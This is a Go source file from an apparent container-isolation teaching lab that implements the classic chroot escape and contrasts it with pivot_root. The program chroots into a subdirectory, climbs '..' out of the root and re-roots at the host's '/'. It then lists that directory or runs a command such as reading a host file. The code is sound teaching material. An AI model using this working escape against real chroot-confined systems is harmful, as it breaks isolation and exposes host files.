package main

// escape.go adds to the seed the classic chroot escape, which shows what
// chroot leaves open: `05-mount escape [cmd [arg...]]`, meant to be run as
// root inside a -rootfs (mkrootfs copies this program there as
// /bin/05-mount). After a chroot it reaches the host's real root; after a
// pivot_root there is nothing above the root left to reach.

import (
	"fmt"
	"os"
	"os/exec"
	"strings"

	"golang.org/x/sys/unix"

	"nslab/common"
)

func escape(args []string) {
	if unix.Geteuid() != 0 {
		common.Fatalf("escape calls chroot(2), which needs root (CAP_SYS_CHROOT): run it in a %s -rootfs as root", common.Prog)
	}
	before := rootID()
	// From /, as in a container (05-mount does cd / before it runs the
	// command): run elsewhere on the host, the rmdir below, which names the
	// directory relative to the working directory, would miss it.
	if err := unix.Chdir("/"); err != nil {
		common.ErrExit("cd /", err)
	}

	// 1. chroot into a subdirectory without entering it. Our root moves
	//    down; our working directory stays where it was, above the root.
	dir, err := os.MkdirTemp("/", ".escape-")
	if err != nil {
		common.ErrExit("mkdir", err, "escape needs a writable /")
	}
	common.Step(common.Child("mkdir "+dir), "")
	if err := unix.Chroot(dir); err != nil {
		os.Remove(dir)
		common.ErrExit("chroot "+dir, err)
	}
	common.Step(common.Child("chroot "+dir), "the root moves down; the working directory stays above it")
	// The working directory is still the old /, so the relative name works.
	if err := os.Remove(strings.TrimPrefix(dir, "/")); err != nil {
		common.Warnf("%s", common.Describe("rmdir "+dir, err))
	}

	// 2. ".." stops at the process's root, and nowhere else but at the top
	//    of the mount tree. We are not below our root any more, so it climbs
	//    to the top: the host's / after a chroot, the new root after a
	//    pivot_root, which left nothing above it.
	for range 64 {
		if err := unix.Chdir(".."); err != nil {
			common.ErrExit("chdir ..", err)
		}
	}
	common.Step(common.Child("cd .. (64 times)"), "nothing stops us: we are outside our root")

	// 3. Make that the root.
	common.Did(common.Child, "chroot .", "", unix.Chroot("."))

	if after := rootID(); after == before {
		fmt.Printf("escape: failed: / is the same directory as before (%s)\n", after)
	} else {
		fmt.Printf("escape: escaped: / was %s, is now %s\n", before, after)
	}

	if len(args) == 0 {
		ents, err := os.ReadDir("/")
		if err != nil {
			common.ErrExit("ls /", err)
		}
		names := make([]string, 0, len(ents))
		for _, e := range ents {
			names = append(names, e.Name())
		}
		fmt.Printf("ls /: %s\n", strings.Join(names, " "))
		common.Exit(0)
	}
	// Run the command in whatever root we ended up in: `escape cat FILE`
	// reads a host file after a chroot, and fails after a pivot_root.
	path, err := exec.LookPath(args[0])
	if err != nil {
		common.ErrExit("exec "+args[0], err)
	}
	common.ErrExit("exec "+path, unix.Exec(path, args, os.Environ()))
}

// rootID names the directory "/" is for this process: its device and inode.
func rootID() string {
	var st unix.Stat_t
	if err := unix.Stat("/", &st); err != nil {
		common.ErrExit("stat /", err)
	}
	return fmt.Sprintf("dev %d:%d inode %d", unix.Major(st.Dev), unix.Minor(st.Dev), st.Ino)
}
